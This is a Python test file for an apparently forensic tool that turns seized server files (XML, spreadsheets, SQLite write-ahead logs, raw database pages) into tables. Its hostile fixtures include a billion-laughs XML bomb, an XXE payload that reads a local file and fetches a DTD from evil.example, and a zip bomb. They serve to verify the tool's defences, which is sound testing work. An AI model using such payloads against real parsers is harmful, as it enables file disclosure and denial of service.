# ruff: noqa: E501
"""XML, spreadsheets, write-ahead logs, and the raw files of database servers."""

import io
import json
import random
import shutil
import sqlite3
import struct
import time
import zipfile
from pathlib import Path

import pytest
from server_files import artifacts, read_server, rows_of

from lymer.case import Case
from lymer.servers import address_hash

DUMP = """<?xml version="1.0" encoding="windows-1251"?>
<export xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<table_data name="zakaz">
<row><field name="nomer">7</field><field name="klient">Зоя</field><field name="konec" xsi:nil="true"/></row>
<row><field name="nomer">8</field><field name="klient">tasso</field><field name="konec">1236000000</field></row>
</table_data></export>
"""
NESTED = """<jobs>
<job id="71"><owner>tasso</owner><nodes><node at="198.18.0.1" ok="5"/><node at="198.18.0.2" ok="6"/></nodes></job>
<job id="72"><owner>mirko</owner><fee>9.50</fee><nodes><node at="198.18.0.3" ok="7"/></nodes></job>
</jobs>
"""
OFFICE_2003 = """<?xml version="1.0"?><Workbook xmlns="urn:x" xmlns:ss="urn:ss">
<Worksheet ss:Name="May"><Table>
<Row><Cell><Data ss:Type="String">nr</Data></Cell><Cell><Data ss:Type="String">sum</Data></Cell></Row>
<Row><Cell><Data ss:Type="Number">1</Data></Cell><Cell><Data ss:Type="Number">9.5</Data></Cell></Row>
<Row><Cell><Data ss:Type="Number">2</Data></Cell><Cell><Data ss:Type="Number">7.25</Data></Cell></Row>
</Table></Worksheet></Workbook>
"""  # fmt: skip
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{"&a%s;" % (n - 1 or "") * 10}">' for n in range(1, 12))
    + "]><l><note>&a11; of boss@evil.example</note></l>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file://{}"><!ENTITY % p SYSTEM '
    '"http://evil.example/p.dtd">%p;]><l><note>&x;</note></l>'
)


@pytest.fixture
def server(tmp_path: Path) -> Path:
    folder = tmp_path / "seized"
    folder.mkdir()
    return folder


def sheets_of(case: Case, path: str) -> dict[str, tuple[list[str], list[list[str | None]]]]:
    """Name to columns and rows of the sheets of one artifact."""
    owner = artifacts(case)[path]["artifact_id"]
    return {
        row["name"]: (row["columns"], rows_of(case, row["name"]))
        for row in case.table("sheets").to_pylist()
        if row["artifact_id"] == owner
    }


def test_xml_of_three_vocabularies_is_rows(server: Path, tmp_path: Path) -> None:
    (server / "1").write_bytes(DUMP.encode("cp1251"))
    (server / "2").write_text(NESTED)
    (server / "3").write_text(OFFICE_2003)
    case = read_server(server, tmp_path / "case")
    assert {artifacts(case)[name]["kind"] for name in "123"} == {"table"}
    assert sheets_of(case, "1")["export/table_data/row"] == (
        ["table_data.name", "nomer", "klient", "konec"],
        [["zakaz", "7", "Зоя", None], ["zakaz", "8", "tasso", "1236000000"]],
    )
    nested = sheets_of(case, "2")
    assert nested["jobs/job/nodes/node"] == (
        ["job.id", "at", "ok"],
        [["71", "198.18.0.1", "5"], ["71", "198.18.0.2", "6"], ["72", "198.18.0.3", "7"]],
    )
    # What one record leaves out is no reason for a sheet of its own.
    columns, rows = nested["jobs/job"]
    assert (sorted(columns), len(rows)) == (["fee", "id", "owner"], 2)
    assert sheets_of(case, "3")["Workbook/Worksheet/Table/Row May"] == (
        ["nr", "sum"], [["1", "9.5"], ["2", "7.25"]],
    )  # fmt: skip


def test_hostile_xml_declares_nothing_and_reaches_nothing(server: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the examiner's own words")
    (server / "laughs").write_text(LAUGHS)
    (server / "outside").write_text(OUTSIDE.format(secret))
    (server / "deep").write_text("<?xml version='1.0'?>" + "<a>" * 100_000 + "x")
    (server / "long").write_text("<?xml version='1.0'?><a b='" + "y" * 12_000_000)
    (server / "cut").write_text("<?xml version='1.0'?>" + NESTED[: NESTED.index("<fee>")])
    (server / "many").write_text(
        "<r>" + "".join(f"<k{n} a='1' b='2'/>" for n in range(3_000)) + "</r>"
    )
    began = time.monotonic()
    case = read_server(server, tmp_path / "case")
    assert time.monotonic() - began < 60
    found = artifacts(case)
    assert found["laughs"]["defects"] == found["outside"]["defects"] == ["xml_entities_refused"]
    assert {"xml_too_deep", "xml_damaged"} <= set(found["deep"]["defects"])
    assert found["long"]["defects"] == ["xml_markup_too_long"]
    assert found["cut"]["defects"] == ["xml_damaged"]
    assert found["many"]["defects"] == ["too_many_tables"]
    assert ["71", "198.18.0.2", "6"] in rows_of(case, "jobs/job/nodes/node")
    everything = [case.table(name).to_pylist() for name in ("sheet_rows", "texts", "entities")]
    assert "own words" not in str(everything)
    assert "haha" not in str(everything)
    assert "boss@evil.example" in str(everything[2])


def _office(cells: str, shared: str = "", **more: bytes) -> bytes:
    """A workbook with one sheet, its parts in an order in which it cannot be read at one go."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "xl/worksheets/sheet9.xml", f"<worksheet><sheetData>{cells}</sheetData></worksheet>"
        )
        archive.writestr("xl/sharedStrings.xml", f"<sst>{shared}</sst>")
        archive.writestr(
            "xl/styles.xml",
            '<styleSheet><numFmts><numFmt numFmtId="170" formatCode="dd\\.mm\\.yyyy"/></numFmts>'
            '<cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs></styleSheet>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships><Relationship Id="r5" Target="worksheets/sheet9.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            '<workbook xmlns:r="r"><sheets><sheet name="Plan" r:id="r5"/></sheets></workbook>',
        )
        for name, data in more.items():
            archive.writestr(name, data)
    return out.getvalue()  # fmt: skip


def _row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


HEAD = _row(2, *(f'<c r="{c}2" t="s"><v>{n}</v></c>' for n, c in enumerate("ABC")))
SHARED = "<si><t>nr</t></si><si><r><t>kli</t></r><r><t>ent</t></r></si><si><t>beginn</t></si>"


def test_a_spreadsheet_shows_what_its_cells_show(server: Path, tmp_path: Path) -> None:
    rows = [
        _row(
            n,
            f'<c r="A{n}"><v>{4100 + n}</v></c>',
            f'<c r="C{n}" s="1"><v>{39874 + n}.4375</v></c>' if n != 4 else "",
        )
        for n in range(3, 9)
    ]
    title = _row(1, '<c r="A1" t="inlineStr"><is><t>all orders of tasso@hub.example</t></is></c>')
    book = _office(title + HEAD + "".join(rows), SHARED, picture=b"GIF89a")
    (server / "plan").write_bytes(book)
    with zipfile.ZipFile(server / "packed.zip", "w") as outer:
        outer.writestr("plan2", book)
    with zipfile.ZipFile(server / "open", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        cell = '<table:table-cell office:value-type="{}" office:{}="{}"><text:p>shown</text:p></table:table-cell>'
        archive.writestr(
            "content.xml",
            '<o:d xmlns:table="t" xmlns:office="o" xmlns:text="x" xmlns:o="o"><table:table table:name="Kasse">'
            "<table:table-row><table:table-cell><text:p>wer</text:p></table:table-cell><table:table-cell>"
            "<text:p>wann</text:p></table:table-cell></table:table-row>"
            + "".join(
                "<table:table-row>" + cell.format("float", "value", n)
                + cell.format("date", "date-value", f"2009-03-0{n}T10:30:00") + "</table:table-row>"
                for n in range(1, 4)
            )
            + '<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
            'table:number-columns-repeated="16384"/></table:table-row></table:table></o:d>',
        )  # fmt: skip
    case = read_server(server, tmp_path / "case")
    found = artifacts(case)
    assert {found[name]["kind"] for name in ("plan", "packed.zip!plan2", "open")} == {"table"}
    assert not any(found[name]["defects"] for name in ("plan", "packed.zip!plan2", "open"))
    assert "not read: picture" in str(found["plan"]["why"])
    columns, got = sheets_of(case, "plan")["Plan"]
    assert columns == ["nr", "klient", "beginn"]
    assert got[:2] == [["4103", None, "2009-03-05 10:30:00"], ["4104", None, None]]
    assert sheets_of(case, "open")["Kasse"] == (
        ["wer", "wann"], [[f"{n}", f"2009-03-0{n} 10:30:00"] for n in range(1, 4)],
    )  # fmt: skip
    assert "tasso@hub.example" in {row["value"] for row in case.table("entities").to_pylist()}


def test_recipients_in_any_format_are_hashes_and_logins_are_not(
    server: Path, tmp_path: Path
) -> None:
    people = [f"guest{n}@place{n % 7}.test" for n in range(150)]
    rows = [
        _row(
            n,
            *(
                f'<c r="{c}{n}" t="inlineStr"><is><t>{v}</t></is></c>'
                for c, v in zip("AB", pair, strict=True)
            ),
        )
        for n, pair in enumerate([("mail", "city"), *((one, "Rome") for one in people)], start=1)
    ]
    (server / "1").write_bytes(_office("".join(rows)))
    (server / "2").write_text("<to>" + "".join(f"<one>{one}</one>" for one in people) + "</to>")
    (server / "3").write_text(json.dumps([{"mail": one, "n": n} for n, one in enumerate(people)]))
    (server / "4").write_text(
        json.dumps([{"mail": one, "pass": f"Geheim{n}"} for n, one in enumerate(people)])
    )
    case = read_server(server, tmp_path / "case")
    found = artifacts(case)
    assert [found[name]["kind"] for name in "1234"] == ["list", "list", "list", "table"]
    listed: dict[object, set[int]] = {}
    for row in case.table("listed").to_pylist():
        listed.setdefault(row["artifact_id"], set()).add(row["address_hash"])
    hashes = {address_hash(one) for one in people}
    assert listed == {found[name]["artifact_id"]: hashes for name in "123"}
    kept = [
        row for name in ("sheet_rows", "texts", "entities") for row in case.table(name).to_pylist()
        if row.get("artifact_id") != found["4"]["artifact_id"]
    ]  # fmt: skip
    assert sum("guest1@" in str(row) for row in kept) == 1
    assert ["guest1@place1.test", "Geheim1"] in rows_of(case, "objects 1")


def test_hostile_spreadsheets_are_bounded(server: Path, tmp_path: Path) -> None:
    zeros = _row(1, '<c r="A1"><v>' + "0" * 1000 + "</v></c>")
    bomb = io.BytesIO(_office(zeros))
    with (
        zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member,
    ):
        member.write(b"<worksheet><sheetData>")
        for _ in range(300):
            member.write((zeros * 1000).encode())
    (server / "bomb").write_bytes(bomb.getvalue())
    # One text of 200,000 characters, shown by 2,000 cells.
    (server / "echo").write_bytes(
        _office(
            "".join(_row(n, f'<c r="A{n}" t="s"><v>0</v></c>') for n in range(1, 2001)),
            "<si><t>" + "w" * 200_000 + "</t></si>",
        )
    )
    (server / "lying").write_bytes(
        _office(
            '<dimension ref="A1:XFD1048576"/>'
            + _row(9, '<c r="XFD9"><v>1</v></c>', '<c r="A9" t="s"><v>99</v></c>', '<c r="B9"><v>5</v></c>')
        )
    )  # fmt: skip
    (server / "cut").write_bytes(_office(HEAD, SHARED)[:200])
    (server / "laughs").write_bytes(_office(HEAD, "</sst>" + LAUGHS))
    began = time.monotonic()
    case = read_server(server, tmp_path / "case")
    assert time.monotonic() - began < 60
    found = artifacts(case)
    assert "bomb_refused" in found["bomb"]["defects"]
    assert "bomb_refused" in found["echo"]["defects"]
    assert found["lying"]["defects"] == ["too_many_columns"]
    assert ["5"] in rows_of(case, "Plan") or [None, "5"] in rows_of(case, "Plan")
    assert found["cut"]["defects"]
    assert set(found["laughs"]["defects"]) & {"xml_damaged", "xml_entities_refused"}
    assert not list((tmp_path / "case" / ".spill").iterdir())


def _with_log(folder: Path) -> None:
    """A database of three rows in the file; a change, a deletion and two more rows in its log."""
    base = sqlite3.connect(folder / "live")
    base.execute("PRAGMA journal_mode = WAL")
    base.execute("CREATE TABLE orders(id INTEGER PRIMARY KEY, who TEXT, n INTEGER)")
    base.executemany(
        "INSERT INTO orders VALUES (?,?,?)", [(1, "a", 10), (2, "b", 20), (3, "c", 30)]
    )
    base.commit()
    base.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    base.execute("UPDATE orders SET n = 21 WHERE id = 2")
    base.execute("DELETE FROM orders WHERE id = 3")
    base.executemany("INSERT INTO orders VALUES (?,?,?)", [(4, "d", 40), (5, "e", 50)])
    base.commit()
    for name in ("live", "live-wal"):
        shutil.copy(folder / name, folder / f"kept-{name}")
    base.close()
    for name in ("live", "live-wal"):
        shutil.move(folder / f"kept-{name}", folder / name)


def test_what_stands_only_in_a_write_ahead_log_is_read_and_said(
    server: Path, tmp_path: Path
) -> None:
    _with_log(server)
    before = {path.name: path.read_bytes() for path in server.iterdir()}
    assert set(before) == {"live", "live-wal"}
    case = read_server(server, tmp_path / "case")
    assert rows_of(case, "orders") == [
        ["1", "a", "10"], ["2", "b", "21"], ["4", "d", "40"], ["5", "e", "50"],
    ]  # fmt: skip
    [sheet] = case.table("sheets").to_pylist()
    assert sheet["why"].endswith("only from its write-ahead log: rows 2-4")
    found = artifacts(case)
    assert "from which 3 rows came; 2 rows of the file itself" in str(found["live"]["why"])
    assert "write-ahead log of live" in str(found["live-wal"]["why"])
    assert not found["live"]["defects"]
    assert not found["live-wal"]["defects"]
    assert {path.name: path.read_bytes() for path in server.iterdir()} == before


def test_a_damaged_or_strange_log_leaves_the_file_as_it_is(server: Path, tmp_path: Path) -> None:
    _with_log(server)
    log = (server / "live-wal").read_bytes()
    spoilt = bytearray(log)
    spoilt[40:44] = b"\xff" * 4
    (server / "live-wal").write_bytes(spoilt)
    (server / "alone-wal").write_bytes(log)
    (server / "other").write_bytes((server / "live").read_bytes())
    # A page number of four thousand million, in a log of another database.
    (server / "other-wal").write_bytes(
        log[:32] + struct.pack(">II", 2**32 - 1, 2**32 - 1) + log[40:]
    )
    case = read_server(server, tmp_path / "case")
    assert rows_of(case, "orders") == [["1", "a", "10"], ["2", "b", "20"], ["3", "c", "30"]] * 2
    found = artifacts(case)
    assert "not_read" in found["alone-wal"]["defects"]
    assert "from which 0 rows came" in str(found["live"]["why"])
    assert not list((tmp_path / "case" / ".spill").iterdir())


def test_raw_database_files_are_named_and_looked_through(server: Path, tmp_path: Path) -> None:
    noise = random.Random(4)
    texts = [b"grobian", b"boss@evil.example", b"relay.evil.example", b"198.51.100.77"]

    def page(head: bytes, size: int) -> bytes:
        body = b"".join(
            noise.randbytes(noise.randint(1, 6)) + b"\0" + t + b"\0" for t in texts * 40
        )
        return (head + b"\0" * 80 + body).ljust(size, b"\0")

    innodb = bytearray(page(b"", 16384))
    innodb[0:42] = bytes(24) + b"\0\x08" + bytes(8) + b"\0\0\0\x17" * 2
    (server / "1").write_bytes(bytes(innodb))
    head = struct.pack("<Q6H", 1, 0, 0, 100, 6000, 8192, 0x2004)
    (server / "2").write_bytes(page(head, 8192) * 2)
    (server / "3").write_bytes(page(b"\x03\0\x1d", 5000))
    (server / "4").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
                               + "wide@evil.example".encode("utf-16-le"))  # fmt: skip
    (server / "5").write_bytes(noise.randbytes(200_000))
    (server / "passwd").write_text("root:x:0:0::/:/bin/sh\ngrobian:x:9:9::/:/bin/sh\n")
    case = read_server(server, tmp_path / "case")
    found = artifacts(case)
    assert [found[name]["kind"] for name in "12345"] == ["database"] * 2 + [
        "binary",
        "database",
        "binary",
    ]
    for name, media, advice in (
        ("1", "InnoDB tablespace", "mysqldump"), ("2", "PostgreSQL pages", "pg_dump"),
        ("4", "OLE file", ".xlsx"),
    ):  # fmt: skip
        assert found[name]["media"] == media
        assert advice in str(found[name]["why"])
        assert found[name]["defects"] == ["not_read"]
    told: dict[object, set[object]] = {}
    for row in case.table("entities").to_pylist():
        told.setdefault(row["artifact_id"], set()).add((row["kind"], row["value"]))
    for name in "123":
        assert told[found[name]["artifact_id"]] >= {
            ("address", "boss@evil.example"), ("host", "relay.evil.example"),
            ("ip", "198.51.100.77"), ("handle", "grobian"),
        }  # fmt: skip
    assert ("address", "wide@evil.example") in told[found["4"]["artifact_id"]]
    assert found["5"]["artifact_id"] not in told
